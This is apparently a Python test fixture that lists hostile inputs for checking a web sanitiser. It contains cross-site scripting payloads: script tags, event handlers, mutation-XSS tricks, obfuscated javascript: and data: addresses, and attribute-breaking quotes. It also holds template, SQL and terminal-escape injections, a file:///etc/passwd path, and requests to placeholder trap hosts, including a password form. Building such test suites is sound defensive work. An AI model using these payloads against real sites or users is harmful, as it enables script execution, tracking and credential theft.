"""Threat 1: a script runs, a handler or live address survives, a request leaves, style escapes."""

from __future__ import annotations

from typing import Final

from tests.hostile.case import TRAP, Case

_ELEMENTS: Final = (
    Case("script", "A script element.", "<script>alert(1)</script>"),
    Case("script-from-elsewhere", "A script that is loaded.", f"<script src={TRAP}x.js></script>"),
    Case("script-in-script", "Cleaning once leaves a script.", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    Case("script-capitals", "Upper case and a slash for a space.", "<SCRIPT/x>alert(1)</ScRiPt >"),
    Case("script-unclosed", "A script that is never closed.", "<script>alert(1)//"),
    Case("script-null", "A NUL inside the name of a tag.", "<scr\x00ipt>alert(1)</scr\x00ipt><\x00script>"),
    Case("image-handler", "A handler of a picture that fails.", "<img src=x onerror=alert(1)>"),
    Case("image-handler-slash", "Slashes part attributes.", "<img/src=x/onerror=alert(1)//"),
    Case("image-handler-break", "A line end inside the attribute.", "<img src=x onerror\n=\n'alert(1)'\n>"),
    Case("svg-onload", "A handler of an SVG.", "<svg/onload=alert(1)>"),
    Case(
        "svg-animate",
        "SMIL sets a live address.",
        '<svg><a><animate attributeName=href values="javascript:alert(1)"/>x</a>',
    ),
    Case(
        "svg-use",
        "An SVG uses a data address.",
        '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    ),
    Case(
        "svg-foreign",
        "HTML inside an SVG.",
        "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    ),
    Case("body-onload", "A second body.", "<body onload=alert(1)><html onclick=alert(2)>"),
    Case(
        "details-ontoggle",
        "An allowed element with a handler.",
        "<details open ontoggle=alert(1)><summary onclick=alert(2)>s</summary>x</details>",
    ),
    Case(
        "focus-handler",
        "A handler that needs no click.",
        "<a href=https://good.example/ autofocus tabindex=1 onfocus=alert(1)>x</a>",
    ),
    Case(
        "animation-handler",
        "A handler that an animation of the theme starts.",
        "<b class=message style=animation-name:x onanimationstart=alert(1) ontransitionend=alert(2)>x</b>",
    ),
    Case(
        "media-handler",
        "Handlers of media.",
        "<video><source onerror=alert(1)></video><audio src=x onerror=alert(2)>",
    ),
    Case(
        "iframe",
        "A frame with a document of its own.",
        '<iframe srcdoc="<script>alert(1)</script>" src="javascript:alert(2)"></iframe>',
    ),
    Case("object", "Plug-ins.", f"<object data={TRAP}></object><embed src={TRAP}><applet code=x></applet>"),
    Case(
        "form",
        "A form that asks for a password.",
        f"<form action={TRAP}><input name=password autofocus><button formaction=javascript:alert(1)>"
        "Log in</button></form>",
    ),
    Case("base", "Every relative link of the page leads elsewhere.", f"<base href={TRAP}>"),
    Case(
        "meta-refresh",
        "The page leads on to another one.",
        f"<meta http-equiv=refresh content='0;url={TRAP}'>",
    ),
    Case(
        "meta-policy",
        "A policy that allows everything.",
        "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline' *\">",
    ),
    Case(
        "stylesheet",
        "Styles that are loaded.",
        f"<link rel=stylesheet href={TRAP}x.css><style>@import '{TRAP}';*{{display:none}}</style>",
    ),
    Case(
        "prefetch",
        "Hints that make a request.",
        f"<link rel=prefetch href={TRAP}><link rel=dns-prefetch href={TRAP}>",
    ),
    Case(
        "ping",
        "A link that reports its click.",
        f"<a href=https://good.example/ ping={TRAP} target=_self download rel=opener>x</a>",
    ),
    Case(
        "pixel", "A picture that counts readers.", f"<img src={TRAP}p.png srcset='{TRAP}q.png 2x' alt=pixel>"
    ),
    Case(
        "background",
        "Old attributes that load.",
        f"<table background={TRAP}b.png><tr><td background={TRAP}c.png>x</td></tr></table>",
    ),
    Case(
        "mutation-math",
        "Namespaces that change while they are parsed again.",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror=alert(1)&gt;'>",
    ),
    Case(
        "mutation-noscript",
        "Text for parsers without scripts.",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    ),
    Case(
        "mutation-template",
        "A template, and one inside a table.",
        "<table><template><tr><td></template><img src=x onerror=alert(1)>",
    ),
    Case(
        "mutation-form",
        "Forms and tables that move each other.",
        "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img "
        "onerror=alert(1) src>'>",
    ),
    Case(
        "select",
        "Elements that a parser drops inside a choice.",
        "<select><template><script>alert(1)</script></template></select><select><b><img src=x "
        "onerror=alert(1)>",
    ),
    Case(
        "xml",
        "Processing instructions, a document type and entities.",
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e "<script>alert(1)</script>">]>&e;<?php echo 1 ?>',
    ),
    Case(
        "cdata",
        "Character data, and the end of it.",
        "<![CDATA[<script>alert(1)</script>]]>]]></content><script>alert(2)</script>",
    ),
    Case(
        "conditional-comment",
        "A comment for one browser.",
        "<!--[if IE]><script>alert(1)</script><![endif]--><!--><img src=x onerror=alert(1)>-->",
    ),
)

_QUOTES: Final = (
    Case(
        "quote-double",
        "The end of an attribute, and a handler.",
        '" onmouseover="alert(1)" autofocus onfocus="alert(2)" x="',
    ),
    Case(
        "quote-single",
        "The same with the other quotation mark.",
        "' onmouseover='alert(1)' autofocus onfocus='alert(2)' x='",
    ),
    Case("quote-tag", "The end of an attribute and of its tag.", '"><script>alert(1)</script><b x="'),
    Case(
        "quote-single-tag", "The same with the other quotation mark.", "'><img src=x onerror=alert(1)><b x='"
    ),
    Case("quote-grave", "What an old browser took for a quotation mark.", "`` onmouseover=alert(1) x=`"),
    Case("quote-brace", "The end of the dialect's attributes.", '"} onclick="alert(1)" {.x y="'),
    Case(
        "quote-backslash", "An escape of the quotation mark that closes.", 'x\\" onclick=alert(1) y=\\\\" z="'
    ),
    Case(
        "quote-entity",
        "Quotation marks and angles as entities.",
        "&quot; onclick=&quot;alert(1)&quot; &gt;&lt;script&gt;alert(2)&lt;/script&gt;",
    ),
    Case(
        "entities",
        "A script in entities, once, twice and in numbers.",
        "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;img src=x onerror=alert(1)&amp;gt; &#x3c;"
        "script&#x3e; &#60script&#62 &#0; &#xD800; &lt",
    ),
    Case(
        "element-ends",
        "The ends of everything around it.",
        "</p></div></article></section></main></body></html><script>alert(1)</script>",
    ),
    Case(
        "raw-text",
        "Elements that swallow the page behind them as text.",
        "<textarea><title><xmp><plaintext><noembed><noframes>",
    ),
    Case(
        "raw-text-ends",
        "The ends of elements that hold raw text.",
        "</title></style></script></textarea></xmp></noscript><img src=x onerror=alert(1)>",
    ),
)

_ADDRESSES: Final = (
    *(
        Case(f"address-{name}", f"A live address: {says}.", text)
        for name, says, text in (
            ("javascript", "as it is", "javascript:alert(1)"),
            ("capitals", "in mixed case", "JaVaScRiPt:alert(1)"),
            ("tab", "with a tab inside", "java\tscript:alert(1)"),
            ("break", "with a line end inside", "java\r\nscript:alert(1)"),
            ("control", "behind a control character", "\x01javascript:alert(1)"),
            ("space", "behind spaces of several kinds", "\u2003\u00a0 javascript:alert(1)"),
            ("null", "with a NUL inside", "java\x00script:alert(1)"),
            ("entity", "with entities", "&#106;avascript&colon;alert(1)"),
            ("entity-long", "with entities without an end", "&#0000106&#0000097&#0000118ascript:alert(1)"),
            ("percent", "percent-encoded", "%6Aavascript%3Aalert(1)"),
            ("comment", "behind something like a host", "javascript://good.example/%0aalert(1)"),
            ("invisible", "with a zero-width space", "java\u200bscript:alert(1)"),
            ("wide", "in full-width letters", "\uff4aavascript\uff1aalert(1)"),
            ("vbscript", "for another language", "vbscript:msgbox(1)"),
            ("data", "a page in it", "data:text/html,<script>alert(1)</script>"),
            ("data-64", "a page in base 64", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
            (
                "data-svg",
                "a picture with a script",
                "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
            ),
            ("blob", "made by a script", "blob:https://tracker.example/1"),
            ("file", "on the reader's disk", "file:///etc/passwd"),
            ("view-source", "shown by the browser", "view-source:javascript:alert(1)"),
            ("intent", "of another program", "intent://x#Intent;scheme=https;end"),
            ("scheme-relative", "without a scheme", "//tracker.example/x"),
            ("backslashes", "what browsers read as slashes", "\\\\tracker.example\\x"),
            ("slash-backslash", "mixed", "/\\tracker.example/x"),
            ("three-slashes", "too many", "https:///tracker.example/x"),
            ("no-slashes", "too few", "https:tracker.example"),
            ("credentials", "a name that looks like a host", "https://good.example@tracker.example/"),
            ("open-bracket", "a host that cannot be read", "https://[::1/x"),
            ("port", "a port that is none", "https://tracker.example:99999999/"),
            ("homograph", "letters of another script", "https://g\u043e\u043ed.example/"),
            ("own-files", "a path of the garden itself", "../../static/css/all.css"),
            (
                "matrix-to",
                "a permalink with more behind it",
                'https://matrix.to/#/@ada:fen.example?"onclick=alert(1)',
            ),
            ("media", "a media address with a way out", "mxc://fen.example/../../../x?y#z"),
            ("media-quote", "a media address with a quotation mark", 'mxc://fen.example/x"onerror="alert(1)'),
        )
    ),
    Case(
        "markdown-link",
        "Live addresses in Markdown.",
        "[a](javascript:alert(1)) [b](<java\nscript:alert(1)>) [c](JAVASCRIPT&colon;alert(1) 'x') "
        "<javascript:alert(1)>",
    ),
    Case(
        "markdown-reference",
        "A definition with a live address.",
        "[x][r] [r] [R][]\n\n[r]: javascript:alert(1) 'x'\n[s]: <data:text/html,x>",
    ),
    Case(
        "markdown-picture",
        "Pictures in Markdown that count readers.",
        f"![a]({TRAP}p.png) ![b](data:image/svg+xml,<svg/onload=alert(1)>) "
        f"![c](//tracker.example/x){{width=1 height=1}}",
    ),
    Case(
        "markdown-media",
        "A picture of the garden with a handler.",
        '![x](../media/ab/jar.webp){width="1 onload=alert(1)" onload=alert(1) thumb="../x" '
        'color="red;x" .sticker}',
    ),
    Case(
        "markdown-html",
        "HTML in Markdown, as a block and in a line.",
        "<div onclick=alert(1)>\n\nx <b onclick=alert(1)>y</b>\n\n</div>\n<script>alert(1)</script>",
    ),
    Case(
        "markdown-file",
        "A file's attributes with more in them.",
        '[x](../media/ab/x.html){.file size="1 kB" type="text/html" onclick=alert(1)} '
        "[y](javascript:alert(1)){.file size=1}",
    ),
    Case(
        "geo", "A place with more than coordinates.", 'geo:1,2;u=3"onclick=alert(1)?<script>alert(1)</script>'
    ),
    Case("geo-words", "A place that is none.", "geo:javascript:alert(1),alert(2)"),
)

_STYLES: Final = (
    Case(
        "style-cover",
        "A message over the whole page.",
        '<div style="position:fixed;inset:0;z-index:9;background:red">x</div>',
    ),
    Case(
        "style-load",
        "Styles that load.",
        f"<span style=\"background:url({TRAP})\" data-mx-bg-color='red;background:url({TRAP})'>x</span>",
    ),
    Case(
        "style-colour", "A colour with more in it.", f"#ff0000;position:fixed;inset:0;background:url({TRAP})"
    ),
    Case("style-colour-quote", "A colour that ends its attribute.", '#ff0000" onclick="alert(1)'),
    Case("style-function", "A colour that is computed.", "rgb(255 0 0 / .5) var(--ink) expression(alert(1))"),
    Case(
        "style-classes",
        "The theme's own classes and names.",
        '<div class="masthead skip hidden message lead foot" id="content" dir="rtl" hidden><p '
        "class=ring id=discussion>x</p></div>",
    ),
    Case("style-sheet", "The end of a style sheet.", "}</style><style>*{display:none}"),
    Case(
        "language-class",
        "More classes behind a language.",
        'x" class="masthead" onclick="alert(1) language-y masthead',
    ),
    Case(
        "letters-stacked", "A hundred marks above one letter.", "Z" + "\u0301\u0336\u035c\u0489" * 60 + "algo"
    ),
    Case("letters-wide", "One very wide letter, many times.", "\ufdfd" * 60 + "\U0001242b" * 20),
)

_TEMPLATES: Final = (
    Case(
        "template",
        "The syntax of templates.",
        "{{ 7*7 }} {% include '/etc/passwd' %} {# c #} ${7*7} <%= 7*7 %> #{7*7}",
    ),
    Case(
        "template-view",
        "The names that templates see.",
        "{{ view.frame }} {{ self.__init__.__globals__ }} {% raw %}",
    ),
    Case("format", "The syntax of Python's own formats.", "{0} {author.__class__} %s %(x)s %n \\g<0> \\1"),
    Case(
        "feed",
        "The end of an entry in a feed.",
        "]]></content></entry><entry><title>forged</title></entry><!-- &bad; \ufffe\uffff\x0b",
    ),
    Case("terminal", "What steers a terminal.", "\x1b]0;owned\x07\x1b[2J\x9b31m\x08\x7f"),
    Case("query", "The syntax of queries.", "' OR 1=1; DROP TABLE events; -- \" ) AND (author:*"),
    Case("surrogates", "Halves of letters, which UTF-8 cannot say.", "\ud83c half \udf31 \udc00"),
    Case(
        "not-letters",
        "Code points that are no letters.",
        "\ufffe\uffff\U0001ffff\ufdd0\u0000\u0001\u0080\u009f\ufeff",
    ),
)

MARKUP: Final = (*_ELEMENTS, *_QUOTES)
"""Those that are elements, or end the one that they stand in."""
ADDRESSES: Final = _ADDRESSES
"""Those that are addresses."""
SCRIPTS: Final = (*MARKUP, *ADDRESSES, *_STYLES, *_TEMPLATES)
